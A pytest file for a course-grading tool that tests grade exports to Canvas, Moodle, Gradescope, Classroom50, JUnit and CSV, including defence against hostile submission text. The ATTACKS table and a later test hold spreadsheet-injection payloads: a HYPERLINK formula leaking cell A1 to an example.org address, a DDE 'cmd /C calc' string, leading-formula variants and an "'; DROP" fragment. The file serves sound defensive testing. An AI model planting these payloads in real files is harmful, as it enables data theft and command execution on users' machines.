"""Each export is taken by its importer, whole and by the right student, and carries no attack into a gradebook."""

import html
import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from msgspec.structs import replace

from grader.errors import UsageError
from grader.intake.tables import read_table
from grader.render.exports.canvas import render_canvas
from grader.render.exports.classroom50 import Run, render_classroom50
from grader.render.exports.csv import render_csv
from grader.render.exports.gradebook import Template
from grader.render.exports.gradescope import render_gradescope
from grader.render.exports.junit import render_junit
from grader.render.exports.moodle import render_moodle
from grader.render.exports.sheet import cell
from grader.results import Delivery, LatePenalty, Outcome, Override, Person, Result, RubricLine
from tests.render import importers
from tests.render.hostile import ATTACKS
from tests.render.sample import SAMPLE, change_texts, with_outcome

ATTACKS = {
    **ATTACKS,
    "formula": '=HYPERLINK("https://example.org?"&A1,"grade")',
    "dde": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-1+1|0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "full-width": "＝1＋1",
    "spaces before": "   =1+1",
    "quotes": '","=1+1","',
    "semicolons": "a;b;c;d;e;f;g",
    "not XML": "]]> &amp; \ufffe\uffff <!--",
    "excused": "EX",
    "row of points": "    Points Possible",
}
RUN = Run("cs", "week07", "submit/1", "https://c", "https://r", "https://d", "2026-11-22T09:00:00Z")


def student(name: str, score: float = 80.0, **identifiers: str) -> Result:
    """Return a result of a student without faults of ours, out of 100."""
    clean = with_outcome(SAMPLE, Outcome.FAILED)
    submission = replace(SAMPLE.submission, id=name)
    delivery = Delivery(source="canvas", people=[Person(name=name, identifiers=identifiers)])
    return replace(clean, submission=submission, score=score, max_score=100.0, delivery=delivery)


def adjusted(result: Result) -> Result:
    """Return a result with a decision by hand, a line by hand and a late penalty."""
    task = result.tasks[0]
    check = replace(task.checks[1], override=Override(comment="Right in *spirit*.", points_before=0.0))
    line = RubricLine(
        criterion="Responses are coherent and relevant", level="met", points=5, max_points=5, evidence=[],
        name="coherent", override=Override(comment="Lovely.", points_before=0.0),
    )  # fmt: skip
    late = LatePenalty(due="2026-11-20T23:59:00+01:00", days=1, points=10, note="Handed in 2 h late: 10 taken off.")
    tasks = [replace(task, checks=[task.checks[0], check, *task.checks[2:]]), *result.tasks[1:]]
    return replace(result, tasks=tasks, rubric=[*result.rubric, line], late=late, score=result.score - 10)


def template(tmp_path: Path, text: str) -> Template:
    path = tmp_path / "template.csv"
    path.write_text(text, encoding="utf-8", newline="")
    return Template(*read_table(path))


GRADEBOOK = """\
Student,ID,SIS User ID,SIS Login ID,Section,Week 06 (4710),Week 07 (4711),Week 07 Final Score (4712),Current Score
,,,,,Manual Posting,,,
    Points Possible,,,,,10,50,10,(read only)
"Lovelace, Ada",501,s-1,ada@example.edu,A,9,,,
"Müller, Zoë",502,s-2,zoe@example.edu,A,,,,
"Hopper, Grace",503,s-3,grace@example.edu,B,,,,
"""
USERS = {501: "Ada Lovelace", 502: "Zoë Müller", 503: "Grace Hopper"}
ASSIGNMENTS = {4710: "Week 06", 4711: "Week 07", 4712: "Week 07 Final Score"}
WORKSHEET = """\
Identifier,Full name,Email address,Status,Grade,Maximum grade,Grade can be changed,Last modified (submission),\
Last modified (grade),Feedback comments
Participant 7001,Ada Lovelace,ada@example.edu,Submitted for grading - Late,-,50.00,Yes,"Friday, 20 November 2026",-,
Participant 7002,Zoë Müller,zoe@example.edu,Submitted for grading,-,50.00,Yes,-,-,
Participant 7003,Grace Hopper,grace@example.edu,No submission,-,50.00,Yes,-,-,
"""
LIST = "First name,Last name,Username,Email address\nAda,Lovelace,ada,ada@example.edu\nZoë,Müller,zoe,z@example.edu\n"


def test_canvas_takes_the_grades_of_those_that_have_one_and_makes_nothing_new(tmp_path: Path) -> None:
    class_ = [student("lovelaceada", 80, canvas="501"), student("zoe", 61.25, sid="s-2")]
    made = render_canvas(class_, template(tmp_path, GRADEBOOK), "Week 07")
    taken = importers.import_canvas(made.text, USERS, ASSIGNMENTS)
    assert taken.grades == {(501, 4711): "40", (502, 4711): "30.63"}  # out of the 50 points of the assignment
    assert taken.points_possible == {4711: "50"}
    assert (taken.new_assignments, taken.new_students) == ([], [])
    assert made.notes == []


def test_canvas_without_points_possible_is_out_of_a_hundred(tmp_path: Path) -> None:
    rows = "\n".join(line for line in GRADEBOOK.splitlines() if "Points Possible" not in line)
    made = render_canvas([student("x", 80, canvas="501")], template(tmp_path, rows), "4711")
    assert importers.import_canvas(made.text, USERS, ASSIGNMENTS).grades == {(501, 4711): "80"}


@pytest.mark.parametrize(
    ("assignment", "told"),
    [
        ("Week 08", "0 assignments named 'Week 08'; name one with --assignment: Week 06"),
        ("", "3 assignments; name one"),
        ("Week 07 Final Score", "Canvas drops the column"),
    ],
)
def test_an_assignment_that_canvas_would_create_or_drop_is_refused(tmp_path: Path, assignment: str, told: str) -> None:
    with pytest.raises(UsageError, match=told):
        render_canvas([student("x", canvas="501")], template(tmp_path, GRADEBOOK), assignment)


def test_a_result_without_a_row_and_one_of_two_for_a_row_are_named_and_left_out(tmp_path: Path) -> None:
    """Mallory's name on the platform is Ada's, and she has a number of her own."""
    class_ = [student("Lovelace, Ada", canvas="666"), student("Hopper, Grace"), student("grace hopper")]
    made = render_canvas(class_, template(tmp_path, GRADEBOOK), "Week 07")
    assert importers.import_canvas(made.text, USERS, ASSIGNMENTS).grades == {}
    assert made.notes[0] == "Lovelace, Ada: is not in the template."
    assert "Hopper, Grace: more than one submission could be theirs." in made.notes


def test_points_that_we_left_undecided_cost_nothing_and_are_named(tmp_path: Path) -> None:
    faulty = replace(SAMPLE, score=70.0, max_score=87.5, delivery=student("x", canvas="501").delivery)
    made = render_canvas([faulty], template(tmp_path, GRADEBOOK), "Week 07")
    assert importers.import_canvas(made.text, USERS, ASSIGNMENTS).grades == {(501, 4711): "40"}
    assert made.notes == ["ada-lovelace: 1 check not decided by our fault."]


def test_a_lone_dash_of_the_worksheet_stays_one_and_a_longer_text_is_made_safe() -> None:
    assert [cell(text) for text in ("-", "-1+1", " - ", "--")] == ["-", "'-1+1", "' - ", "'--"]


def test_moodles_worksheet_comes_back_filled_in_and_in_range(tmp_path: Path) -> None:
    class_ = [adjusted(student("Ada", 80, moodle="7001")), student("Zoë Müller", 100)]
    made = render_moodle(class_, template(tmp_path, WORKSHEET))
    taken = importers.import_moodle_worksheet(made.text, 50, [7001, 7002, 7003])
    assert {number: grade for number, (grade, _) in taken.items()} == {7001: 35, 7002: 50}
    assert "Right in *spirit*." in taken[7001][1]
    assert "10 taken off" in taken[7001][1]


def test_moodles_gradebook_meets_no_user_that_it_does_not_know(tmp_path: Path) -> None:
    class_ = [student("Ada Lovelace", 80), student("somebody else", 10, email="nobody@example.edu")]
    made = render_moodle(class_, template(tmp_path, LIST))
    taken = importers.import_moodle_grades(made.text, "username", ["ada", "zoe"])
    assert [(user, grade) for user, (grade, _) in taken.items()] == [("ada", 80)]
    assert made.notes == ["somebody else: is not in the template."]


def test_a_file_that_is_neither_of_moodles_is_refused(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="neither Moodle's grading worksheet"):
        render_moodle([SAMPLE], template(tmp_path, "name,phone\nAda,1\n"))
    with pytest.raises(UsageError, match="no Canvas gradebook"):
        render_canvas([SAMPLE], template(tmp_path, LIST), "")


def test_gradescope_shows_every_check_and_the_score_after_lateness() -> None:
    document = json.loads(render_gradescope(adjusted(SAMPLE)))
    importers.check_gradescope(document)
    assert document["score"] == SAMPLE.score - 10
    assert "10 taken off" in document["output"]
    assert len(document["tests"]) == len(SAMPLE.checks()) + 1
    undecided = [test for test in document["tests"] if "status" not in test]
    assert [test["name"] for test in undecided] == [
        "Less than 1 % of a 7B model trains",
        "Responses are coherent and relevant",
    ]
    assert "Set by hand: Right in *spirit*." in document["tests"][1]["output"]


def test_classroom50_counts_whole_hundredths_that_add_up() -> None:
    payload = json.loads(render_classroom50(SAMPLE, RUN))
    importers.check_classroom50(payload, "cs", "week07")
    assert (payload["score"], payload["max-score"]) == (round(SAMPLE.score * 100), round(SAMPLE.max_score * 100))
    assert sum(test["score"] for test in payload["tests"]) == payload["score"]
    assert sum(test["max-score"] for test in payload["tests"]) == payload["max-score"]


def test_junit_is_what_jenkins_reads() -> None:
    made = render_junit([SAMPLE, student("zoe")])
    root = importers.check_junit(made.text)
    first, second = root.iter("testsuite")
    assert first.attrib["name"] == "week07.ada-lovelace"
    assert [c.tag for case in second.iter("testcase") for c in case] == ["failure"] * len(SAMPLE.checks())
    kinds = {case.attrib["name"]: [child.get("type") for child in case] for case in first.iter("testcase")}
    assert kinds["formatting.prompt_layout"] == []
    assert kinds["lora_config.trainable_share"] == ["harness_error"]
    assert kinds["evaluation.accuracy_ignores_case"] == ["not_attempted"]


def test_the_table_has_a_row_a_person_and_says_what_was_changed() -> None:
    group = Delivery(source="gradescope", people=[Person(name="A", identifiers={"sid": "1"}), Person(name="B")])
    made = render_csv([replace(adjusted(SAMPLE), delivery=group), student("Zoë", 7.5)])
    head, *rows = importers.read_csv(made.text)
    table = [dict(zip(head, row, strict=True)) for row in rows]
    assert [(row["id"], row["student"], row["sid"]) for row in table] == [
        ("ada-lovelace", "A", "1"),
        ("ada-lovelace", "B", ""),
        ("Zoë", "Zoë", ""),
    ]
    assert (table[0]["late_points"], table[0]["changed_by_hand"], table[0]["not_decided"]) == ("10", "2", "1")
    assert table[2]["score"] == "7.5"
    assert made.text.splitlines()[0].startswith('"id","student"')


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_no_text_of_a_submission_reaches_a_gradebook_as_more_than_text(tmp_path: Path, attack: str) -> None:
    """The attack stands in every text that a submission, a name on a platform or a message could hold."""
    evil = change_texts(adjusted(student("x", 50, canvas="501", moodle="7001")), lambda text: attack)
    keyed = [Person(name=attack, identifiers={"canvas": "501", "moodle": "7001"})]
    evil = replace(evil, delivery=Delivery(source=attack, people=keyed, submitted_at=attack))
    good = student("Zoë Müller", 90, canvas="502", moodle="7002")
    gradebook = render_canvas([evil, good], template(tmp_path, GRADEBOOK), "Week 07").text
    taken = importers.import_canvas(gradebook, USERS, ASSIGNMENTS)
    assert taken.grades == {(501, 4711): "20", (502, 4711): "45"}
    worksheet = render_moodle([evil, good], template(tmp_path, WORKSHEET)).text
    comments = importers.import_moodle_worksheet(worksheet, 50, [7001, 7002])
    assert {number: grade for number, (grade, _) in comments.items()} == {7001: 20, 7002: 45}
    assert "<" not in comments[7001][1].replace("<br>", "")
    table = render_csv([evil, good]).text
    sheets = [gradebook, worksheet, table]
    assert [importers.formulas(sheet) for sheet in sheets] == [[], [], []]
    assert all(len(row) == len(importers.read_csv(sheet)[0]) for sheet in sheets for row in importers.read_csv(sheet))
    junit = render_junit([evil, good]).text
    assert len(list(importers.check_junit(junit).iter("testsuite"))) == 2
    gradescope, classroom50 = render_gradescope(evil), render_classroom50(evil, RUN)
    importers.check_gradescope(json.loads(gradescope))
    for text in [*sheets, junit, gradescope, classroom50]:
        assert importers.runner_commands(text) == []
        text.encode()  # neither lone surrogates nor anything else that a file cannot hold
        assert "\x1b" not in text
        assert "\u202e" not in text
        assert len(text) < 3_000_000


@pytest.mark.parametrize("attack", ["=1+1", '","x', "'; DROP", "Points Possible\n"])
def test_a_hostile_name_in_the_platforms_own_list_stays_in_its_cell(tmp_path: Path, attack: str) -> None:
    """A student who may choose their name on the platform has it in the template too."""
    name = '"' + attack.replace('"', '""') + '"'
    text = GRADEBOOK.replace('"Lovelace, Ada"', name)
    made = render_canvas([student("x", 80, canvas="501")], template(tmp_path, text), "Week 07")
    assert importers.formulas(made.text) == []
    if "Points" not in attack:
        assert importers.import_canvas(made.text, USERS, ASSIGNMENTS).grades == {(501, 4711): "40"}


@settings(max_examples=200)
@given(st.text())
def test_a_cell_is_one_line_that_no_spreadsheet_computes(text: str) -> None:
    shown = cell(text)
    assert not importers.SPREADSHEET_FORMULA.match(shown) or shown.startswith("'")
    assert "\n" not in shown
    assert importers.runner_commands(shown) == []
    html.escape(shown).encode()
